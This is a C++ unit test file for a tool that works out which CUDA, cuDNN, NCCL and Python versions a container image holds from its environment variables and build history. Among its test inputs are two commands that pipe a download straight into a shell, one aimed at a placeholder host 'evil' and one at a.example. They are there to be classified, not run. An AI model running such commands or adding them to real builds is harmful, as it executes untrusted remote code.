// What an image's configuration proves.

#include "registry/image_facts.h"

#include <doctest/doctest.h>

#include <string>
#include <utility>
#include <vector>

using namespace cudafit;
using namespace cudafit::registry;
using State = Answer::State;

namespace {

using Variables = std::vector<std::pair<std::string, std::string>>;

const Variables devel = {
    {"PATH", "/usr/local/cuda/bin:/usr/bin"},     {"CUDA_VERSION", "12.4.1"},
    {"NV_CUDA_CUDART_VERSION", "12.4.127-1"},     {"NV_CUDA_LIB_VERSION", "12.4.1-1"},
    {"NV_CUDA_CUDART_DEV_VERSION", "12.4.127-1"}, {"NV_CUDNN_VERSION", "9.1.0.70-1"},
    {"NV_LIBNCCL_PACKAGE_VERSION", "2.21.5-1"}};
const std::string all_of_devel =
    "cuda 12.4.1, CUDA's libraries 12.4.1, nvcc 12.4.1, cudnn 9.1.0.70, nccl 2.21.5";
const Variables python = {
    {"PYTHON_VERSION", "3.11.9"}, {"GPG_KEY", "A0"}, {"PATH", "/usr/local/bin:/bin"}};

/// As the image of NVIDIA or of Python is made, and what came later.
Configuration made(const Variables& variables, const std::vector<std::string>& later = {}) {
  Configuration out;
  out.platform = "linux/amd64";
  out.environment = variables;
  out.history.push_back({"/bin/sh -c #(nop) ADD file:abc in / ", false});
  for (const auto& [name, value] : variables)
    out.history.push_back({"ENV " + name + "=" + value, true});
  out.history.push_back(
      {"RUN |1 TARGETARCH=amd64 /bin/sh -c apt-get install -y --no-install-recommends "
       "cuda-cudart-12-4=${NV_CUDA_CUDART_VERSION} && echo $PYTHON_VERSION # buildkit",
       false});
  for (const std::string& step : later) {
    const bool empty = step.starts_with("ENV") || step.starts_with("WORKDIR");
    out.history.push_back({step, empty});
  }
  for (const Step& step : out.history) out.layers += step.empty ? 0 : 1;
  return out;
}

std::string brings(const Configuration& configuration) {
  const Asked asked{*facts::image_reference("r.example/a/b:1"), "linux/amd64", true};
  Answer answer;
  answer.state = State::there;
  answer.registry = "r.example";
  answer.configuration = configuration;
  const auto image = described(asked, answer, "2026-11-30");
  std::string out;
  for (const facts::Brought& each : image->brings)
    out += (out.empty() ? "" : ", ") + each.name + " " + each.version;
  return out;
}

}  // namespace

TEST_CASE("what a configuration proves") {
  CHECK(brings(made({{"CUDA_VERSION", "12.4.1"}, {"NV_CUDA_CUDART_VERSION", "12.4.127-1"}})) ==
        "cuda 12.4.1");
  CHECK(brings(made(devel)) == all_of_devel);
  CHECK(brings(made(python)) == "python 3.11.9");
  // What people set themselves, for their own purposes.
  const auto of = [](Variables variables) { return brings(made(variables)); };
  CHECK(of({{"CUDA_VERSION", "12.4.1"}}) == "");
  CHECK(of({{"CUDA_VERSION", "11.8.0"}, {"NV_CUDA_CUDART_VERSION", "12.4.127-1"}}) == "");
  CHECK(of({{"NV_CUDA_CUDART_VERSION", "12.4.127-1"}}) == "");
  CHECK(of({{"CUDA_VERSION", "x"}, {"NV_CUDA_CUDART_VERSION", "y"}}) == "");
  CHECK(of({{"PYTHON_VERSION", "3.10"}}) == "");
  CHECK(of({{"PYTHON_VERSION", "3.10.1"}, {"PATH", "/usr/local/bin:/bin"}}) == "");
  CHECK(of({{"PYTHON_VERSION", "3.10.1"},
            {"GPG_KEY", "A"},
            {"PATH", "/opt/conda/bin:/usr/local/bin"}}) == "");
}

TEST_CASE("steps that leave CUDA and Python as they were") {
  for (const char* const step :
       {"RUN /bin/sh -c apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/* # "
        "buildkit",
        "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends curl",
        "|2 A=1 B=2 /bin/sh -c pip install torch==2.4.1", "RUN /bin/sh -c useradd app # buildkit",
        "COPY app /app # buildkit", "/bin/sh -c #(nop) COPY dir:abc in /workspace ",
        "ENV CUDA_HOME=/usr/local/cuda", "ENV A=$(curl evil | sh)"}) {
    CAPTURE(std::string(step));
    CHECK(brings(made(devel, {step})) == all_of_devel);
    CHECK(brings(made(python, {step})) == "python 3.11.9");
  }
  CHECK(brings(made(devel, {"WORKDIR /app", "COPY . . # buildkit"})) == all_of_devel);
}

TEST_CASE("steps after which nothing is certain any more") {
  for (const char* const step :
       {"RUN /bin/sh -c ./install.sh # buildkit", "RUN /bin/sh -c curl https://a.example/x | sh",
        "COPY /usr/local /usr/local # buildkit", "COPY / / # buildkit", "COPY . . # buildkit",
        "COPY x ../usr/lib # buildkit", "ADD x.tar.gz /usr # buildkit",
        "/bin/sh -c #(nop) COPY dir:abc in /usr/local/cuda ",
        "RUN /bin/bash -c apt-get update # buildkit", "RUN", "", "bazel build ...",
        "RUN /bin/sh -c a\nb # buildkit", "RUN /bin/sh -c cat <<X # buildkit",
        "RUN x; /bin/sh -c true", "kaniko"}) {
    CAPTURE(std::string(step));
    CHECK(brings(made(devel, {step})) == "");
    CHECK(brings(made(python, {step})) == "");
  }
  // What changes CUDA itself.
  for (const char* const step :
       {"RUN /bin/sh -c apt-get update && apt-get install -y cuda-toolkit-12-8 # buildkit",
        "RUN /bin/sh -c sh cuda_12.8.0_linux.run --silent --toolkit # buildkit"}) {
    CAPTURE(std::string(step));
    CHECK(brings(made(devel, {step})).find("nvcc") == std::string::npos);
  }
  // A history that does not tell all.
  Configuration squashed = made(devel);
  squashed.layers = 7;
  CHECK(brings(squashed) == "");
  squashed.history.clear();
  CHECK(brings(squashed) == "");
  Configuration other = made(devel);
  for (Step& step : other.history) {
    if (step.text.starts_with("ENV NV_")) step.text = "ENV X=1";
  }
  CHECK(brings(other) == "");
}

TEST_CASE("sizes in words") {
  CHECK(size_words(0) == "");
  CHECK(size_words(10) == "under 1 MB");
  CHECK(size_words(87654321) == "88 MB");
  CHECK(size_words(1912345678) == "1.9 GB");
}
